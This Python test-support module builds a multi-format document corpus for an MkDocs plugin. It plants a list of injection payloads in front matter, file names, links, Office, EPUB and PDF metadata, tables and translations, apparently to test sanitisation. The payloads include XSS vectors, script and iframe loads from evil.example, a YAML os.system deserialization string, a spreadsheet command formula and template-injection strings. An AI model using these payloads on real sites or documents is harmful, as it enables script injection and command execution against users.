"""A corpus that holds payloads in every place that a corpus has: each says a number of its own."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from generator.corpus.formats import stored
from generator.corpus.formats.reading import Mark, MarkKind, Reading
from generator.corpus.readings import Kept
from generator.paths import READINGS
from tests.support.office import cell, docx, epub, paragraph, png, table
from tests.support.pdf import Pdf
from tests.support.sites import mkdocs
from tests.support.slides import bar_chart, frame, picture, pptx, shape, slide, text

PAYLOADS = [
    "<script>alert({n})</script>",
    "<ScRiPt/src=//evil.example/{n}.js></sCrIpT>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "</script><script>alert({n})</script>",
    "</title></textarea></style><svg onload=alert({n})>",
    '"><img src=x onerror=alert({n})>',
    "' onmouseover='alert({n})' x='",
    '" autofocus onfocus="alert({n})" x="',
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script><![CDATA[",
    "<iframe src=https://evil.example/{n}></iframe>",
    "<object data=https://evil.example/{n}><embed src=//evil.example/{n}>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<style>@import 'https://evil.example/{n}';</style>",
    "<b style=background:url(https://evil.example/{n})>b</b>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/{n}">',
    "<base href=https://evil.example/{n}/>",
    "<form action=https://evil.example/{n}><button>ok</button></form>",
    "<video src=https://evil.example/{n} autoplay>",
    "<svg><a xlink:href=javascript:alert({n})><text>x</text></a></svg>",
    "<math href=javascript:alert({n})>x</math>",
    "[x](javascript:alert({n}))",
    "[x](JaVaScRiPt:alert({n}) 'y')",
    "[x](data:text/html,<script>alert({n})</script>)",
    "![x](https://evil.example/{n}.png)",
    "[x][y{n}] [y{n}]: javascript:alert({n})",
    "<javascript:alert({n})>",
    "&#106;avascript:alert({n}) &lt;b{n}&gt;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "{{{{ {n} * 7 }}}} {{% include 'mkdocs.yml' %}} {{# {n} #}}",
    "${{alert({n})}} `${{{n}}}`",
    '--8<-- "mkdocs.yml" {n}',
    "{{: onclick=alert({n}) .x #y }}",
    ":::python exec({n}) /// html | script {n}",
    "!!python/object/apply:os.system ['id{n}']",
    "&a{n} *a{n} : [ {{ - ? | > % @ ` # {n}",
    '": {n}\n--- \n...',
    "}}, note = {{x}} @string{{a = {n}}}",
    "ER  - {n} TY  - RPRT",
    "=cmd|' /C calc'!A{n}",
    "$\\href{{javascript:alert({n})}}{{x}}$ \\url{{javascript:{n}}}",
    "a\tb {n} \\ / %00 %3Cscript%3E",
    "*[{n}]: x *a* _c_ ~~d~~ ==e== [^{n}]",
    "| {n} | --- | <td onclick=alert({n})> |",
]
"""What tries to become markup, code, a link, another entry or another file; `n` is the number."""
_START = 1_000


@dataclass(frozen=True, slots=True)
class Placed:
    """A payload, and the place that it stands in."""

    place: str
    text: str


class Corpus:
    """Writes the corpus, and remembers what was put where."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.placed: list[Placed] = []

    def each(self, place: str) -> Iterator[str]:
        """Yield each payload once for a place."""
        for payload in PAYLOADS:
            yield self.one(place, payload)

    def one(self, place: str, payload: str) -> str:
        text = " ".join(payload.format(n=_START + len(self.placed)).split())
        self.placed.append(Placed(place, text))
        return text

    def write(self, name: str, content: str | bytes) -> None:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())


def quoted(text: object) -> str:
    """Return a text as YAML."""
    return json.dumps(text, ensure_ascii=False)


FOLDER = "corpus"
PLACED = "placed.json"


def build(folder: Path) -> None:
    """Write a site of the corpus into a folder, with a list of what stands where, and build it."""
    (folder / "docs").mkdir()
    (folder / FOLDER).mkdir()
    placed = [[one.place, one.text] for one in write(folder / FOLDER)]
    (folder / PLACED).write_text(json.dumps(placed), "utf-8")
    (folder / "mkdocs.yml").write_text("site_name: M\nplugins: [zhiku]\n", "utf-8")
    mkdocs(folder, "build", "--quiet")


def write(folder: Path) -> list[Placed]:
    """Write the corpus, and return what stands in it."""
    corpus = Corpus(folder)
    for write_place in (
        _facts,
        _heads,
        _links,
        _names,
        _texts,
        _markdown,
        _tables,
        _words,
        _slides,
        _pages,
        _books,
        _papers,
        _kept,
        _vocabulary,
    ):
        write_place(corpus)
    return corpus.placed


_FACTS = ("title", "subtitle", "organisations", "people", "summary", "tags")
_BODY = "正文一段，内容很短，只为说明第{}号文件。\n"


def _facts(corpus: Corpus) -> None:
    """Front matter, and a sidecar, in which each file has one payload of each fact."""
    places = {
        fact: [corpus.each(f"front matter: {fact}"), corpus.each(f"sidecar: {fact}")] for fact in _FACTS
    }
    for at in range(len(PAYLOADS)):
        for kind, name in enumerate(("front", "sidecar")):
            lines = []
            for fact in _FACTS:
                value = quoted(next(places[fact][kind]))
                lines.append(
                    f"{fact}: {f'[{value}]' if fact in ('organisations', 'people', 'tags') else value}\n"
                )
            facts = f"key: {name}-{at}\n{''.join(lines)}"
            if kind:
                corpus.write(f"{name}-{at}.txt", f"第{at}号报告\n\n{_BODY.format(at)}")
                corpus.write(f"{name}-{at}.yml", facts)
            else:
                corpus.write(f"{name}-{at}.md", f"---\n{facts}---\n{_BODY.format(at)}")


def _heads(corpus: Corpus) -> None:
    """What heads of files say: front matter of pages, such in TOML, and what a page tells programs."""
    for at, payload in enumerate(PAYLOADS):
        text, kind = _BODY.format(at), at % 4
        title = corpus.one(f"title in a head of kind {kind}", payload)
        summary = corpus.one(f"summary in a head of kind {kind}", payload)
        yaml = f"---\ntitle: {quoted(title)}\nsummary: {quoted(summary)}\nurl: {quoted(payload)}\n---\n"
        toml = f"+++\ntitle = {quoted(title)}\nsummary = {quoted(summary)}\nslug = {quoted(payload)}\n+++\n"
        linked = quoted(
            [{"@type": "Article", "headline": title, "author": {"name": payload}, "url": payload}]
        )
        script = '<script type="application/ld+json">{}</script>'.format(linked.replace("</", "<\\/"))
        meta = f'<meta name="description" content="{html.escape(payload)}"><link rel="canonical" href="{html.escape(payload)}">'
        page = f"<head><title>{html.escape(title)}</title>{script}{meta}</head><h1>{html.escape(title)}</h1>"
        said = f"<p>这里说：{html.escape(summary)}。</p>"
        name, content = (
            (f"head-{at}.html", f"{yaml}<h1>第{at}页</h1><p>{text}</p>"),
            (f"head-{at}.htm", f"{toml}<h1>第{at}页</h1><p>{text}</p>"),
            (f"head-{at}.md", f"{toml}# 第{at}篇\n\n{text}"),
            (f"head-{at}.xhtml", f"{page}<p>{text}</p>{said}"),
        )[kind]
        corpus.write(f"heads/{name}", content)


def _links(corpus: Corpus) -> None:
    """Where links of each format lead."""
    targets = [html.escape(" ".join(one.format(n=at).split())) for at, one in enumerate(PAYLOADS)]
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    relations = "".join(
        f'<Relationship Id="l{at}" Type="{relation}" TargetMode="External" Target="{one}"/>'
        for at, one in enumerate(targets)
    )
    runs = "".join(
        f'<w:hyperlink r:id="l{at}"><w:r><w:t>链接{at}</w:t></w:r></w:hyperlink>'
        for at in range(len(targets))
    )
    corpus.write("leads.docx", docx(paragraph("导向报告") + paragraph(runs), relations=relations))
    leads = "".join(f'<a href="{one}">链接</a>' for one in targets)
    corpus.write("leads.epub", epub({"1.xhtml": f"<p>{leads}</p>"}))
    pdf = Pdf()
    for at, one in enumerate(PAYLOADS):
        sheet = pdf.sheet()
        sheet.text(72, 700, f"Link {at}", 10, "sans")
        address = one.format(n=at).replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        sheet.links.append(((70, 690, 200, 715), address))
    corpus.write("leads.pdf", pdf.bytes())


def _names(corpus: Corpus) -> None:
    """Names of files and folders, in which a slash cannot stand."""
    for at, payload in enumerate(PAYLOADS):
        if "/" not in payload:
            name = corpus.one("file name", payload)
            folder = corpus.one("folder name", payload) if at % 3 == 0 else "files"
            corpus.write(f"{folder}/{name}.txt", f"文件{at}的报告\n\n{_BODY.format(at)}")


def _texts(corpus: Corpus) -> None:
    """Paragraphs of text, credits, and lines that may be headings or items."""
    corpus.write(
        "text.txt", "文本报告\n\n" + "\n\n".join(f"这里说：{one}。" for one in corpus.each("paragraph"))
    )
    corpus.write("credits.txt", "署名报告\n\n" + "\n\n".join(f"来源：{one}" for one in corpus.each("credit")))
    lines = (f"{at}、{one}\n\n正文在此。" for at, one in enumerate(corpus.each("numbered line"), 1))
    corpus.write("lines.txt", "编号报告\n\n" + "\n\n".join(lines))


def _markdown(corpus: Corpus) -> None:
    """Places of Markdown that hold text as it stands: code, formulas, and what HTML in it says."""
    code = "\n\n".join(f"```x\n{one}\n```" for one in corpus.each("code block"))
    formulas = "\n\n".join(f"$$\n\\text{{{one}}}\n$$" for one in corpus.each("formula"))
    escaped = "\n\n".join(f"## {_escaped(one)}\n\n正文。" for one in corpus.each("heading"))
    links = "\n\n".join(f"[{_escaped(one)}](https://example.org/a)" for one in corpus.each("link text"))
    notes = [f"文[^{at}]\n\n[^{at}]: {_escaped(one)}" for at, one in enumerate(corpus.each("note"))]
    for name, written in (("code", code), ("formulas", formulas), ("headings", escaped), ("links", links)):
        corpus.write(f"{name}.md", f"# {name} 报告\n\n{written}\n")
    corpus.write("notes.md", "# notes 报告\n\n" + "\n\n".join(notes) + "\n")
    pictures = "\n\n".join(f"![{_escaped(one)}](a.png)" for one in corpus.each("alternative text"))
    corpus.write("a.png", png())
    corpus.write("pictures.md", f"# pictures 报告\n\n{pictures}\n")
    raw = "\n\n".join(f"<p>{html.escape(one)}</p>" for one in corpus.each("HTML in Markdown"))
    corpus.write("raw.md", f"# raw 报告\n\n{raw}\n")


def _escaped(text: str) -> str:
    """Return a text in which no character is a mark of Markdown."""
    return "".join(one if one.isalnum() or one == " " else f"&#{ord(one)};" for one in text)


def _tables(corpus: Corpus) -> None:
    rows = "\n".join(f"| {_escaped(one)} | 值 |" for one in corpus.each("cell in Markdown"))
    corpus.write("table.md", f"# table 报告\n\n| 项 | 值 |\n|---|---|\n{rows}\n")


def _words(corpus: Corpus) -> None:
    """Word: paragraphs, cells, headings, and what the file says of itself."""
    body = "".join(paragraph(html.escape(one)) for one in corpus.each("paragraph of Word"))
    body += table(*(cell(html.escape(one)) + cell("值") for one in corpus.each("cell of Word")))
    head = "".join(map(html.escape, PAYLOADS[:6]))
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{head}</dc:title><dc:creator>{head}</dc:creator></cp:coreProperties>"
    )
    corpus.write("word.docx", docx(paragraph("Word 报告") + body, files={"docProps/core.xml": core}))


def _slides(corpus: Corpus) -> None:
    """Slides: their lines, the words of a picture, and the names in a chart."""
    lines = shape(text(*(html.escape(one) for one in corpus.each("line of a slide"))), "body")
    alt = html.escape(corpus.one("picture of a slide", PAYLOADS[3]))
    series = {html.escape(corpus.one("chart of a slide", PAYLOADS[4])): ["0.5"]}
    shown = slide(
        shape(text("Slides 报告"), "title"),
        lines,
        picture("map", alt),
        frame('<c:chart r:id="chart"/>'),
        links={"map": "media/map.png", "chart": "charts/chart1.xml"},
    )
    parts = {"media/map.png": png(60, 50), "charts/chart1.xml": bar_chart("图表 1", ["2024"], series)}
    corpus.write("slides.pptx", pptx(shown, parts=parts))


def _pages(corpus: Corpus) -> None:
    """A saved page: its texts, links, pictures and head."""
    paragraphs = "".join(
        f"<p>这里说：{html.escape(one)}，说完了，再见。</p>" for one in corpus.each("paragraph of a page")
    )
    cells = "".join(
        f"<tr><td>{html.escape(one)}</td><td>值</td></tr>" for one in corpus.each("cell of a page")
    )
    links = "".join(
        f'<p>见 <a href="{html.escape(one)}">链接{at}</a> 一文，内容可供参考。</p>'
        for at, one in enumerate(PAYLOADS)
    )
    title = corpus.one("title of a page", PAYLOADS[3])
    head = f'<title>{html.escape(title)}</title><meta name="author" content="{html.escape(PAYLOADS[5])}">'
    corpus.write(
        "page.html",
        f"<html><head>{head}</head><body><h1>{html.escape(title)}</h1>{paragraphs}<table>{cells}</table>{links}</body></html>",
    )


def _books(corpus: Corpus) -> None:
    title = html.escape(corpus.one("title of a book", PAYLOADS[5]))
    chapters = {
        f"{at}.xhtml": f"<h1>第{at}章</h1><p>{html.escape(one)}</p>"
        for at, one in enumerate(corpus.each("paragraph of a book"), 1)
    }
    corpus.write("book.epub", epub(chapters, title=title))


def _papers(corpus: Corpus) -> None:
    """PDF, whose fonts here have Latin characters."""
    pdf = Pdf(info={"Title": PAYLOADS[0], "Author": PAYLOADS[5]})
    for one in corpus.each("line of a PDF"):
        pdf.sheet().text(72, 700, one, 10, "sans")
    corpus.write("paper.pdf", pdf.bytes())


def _kept(corpus: Corpus) -> None:
    """What was read of a file, as it is kept in `.zhiku`, and the registry."""
    texts = ["留存的报告", *corpus.each("reading")]
    starts = [sum(len(text) + 2 for text in texts[:at]) for at in range(len(texts))]
    kinds = [MarkKind.HEADING, *([MarkKind.PARAGRAPH] * (len(texts) - 1))]
    marks = tuple(
        Mark(start, start + len(text), kind, "1" if kind is MarkKind.HEADING else "")
        for start, text, kind in zip(starts, texts, kinds, strict=True)
    )
    reading = Reading("\n\n".join(texts), marks, (), (("title", "留存"), ("author", PAYLOADS[5])))
    corpus.write("kept.pdf", b"%PDF-1.7 nothing")
    key = Kept(corpus.folder).key(corpus.folder / "kept.pdf")
    corpus.write(f"{READINGS}/{key}.json", stored.dumps(reading))
    for kind in MarkKind:
        inner = Mark(3, 4, kind, PAYLOADS[5], PAYLOADS[6])
        text = f"留存的另一份报告：{kind}"
        reading = Reading(
            text, (Mark(0, len(text), MarkKind.PARAGRAPH), inner), (), ((PAYLOADS[5], PAYLOADS[6]),)
        )
        corpus.write(f"{kind}.pdf", f"%PDF-1.7 {kind}")
        key = Kept(corpus.folder).key(corpus.folder / f"{kind}.pdf")
        corpus.write(f"{READINGS}/{key}.json", stored.dumps(reading))
    gone = [
        f'  gone-{at}: {{"source": {quoted(payload)}, "day": "2026-01-02", "print": {quoted(payload)}}}\n'
        for at, payload in enumerate(PAYLOADS[::6])
    ]
    named = [
        f'  none-{at}: {{"zh": {quoted(payload)}, "en": {quoted(payload)}}}\n'
        for at, payload in enumerate(PAYLOADS[::6])
    ]
    corpus.write(".zhiku/registry.yml", "".join(("reports:\n", *gone, "concepts:\n", *named)))


_PO_HEAD = 'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n'


def _vocabulary(corpus: Corpus) -> None:
    entries = []
    for at, (zh, en) in enumerate(
        zip(corpus.each("concept"), corpus.each("concept in English"), strict=True)
    ):
        entries.append(f"- key: c{at}\n  zh: {quoted(zh)}\n  en: {quoted(en)}\n")
    corpus.write("concepts.yml", "".join(entries))
    corpus.write(
        "named.txt",
        "点名报告\n\n"
        + "\n\n".join(f"其中{one.text}很重要。" for one in corpus.placed if one.place == "concept"),
    )
    texts = [f"这是第{at}段，它有译文。" for at in range(len(PAYLOADS))]
    corpus.write("translated.txt", "译文报告\n\n" + "\n\n".join(texts) + "\n")
    messages = [
        f"msgid {quoted(text)}\nmsgstr {quoted(one)}\n"
        for text, one in zip(texts, corpus.each("translation"), strict=True)
    ]
    corpus.write("translations/translated.en.po", "\n".join((_PO_HEAD, *messages)))
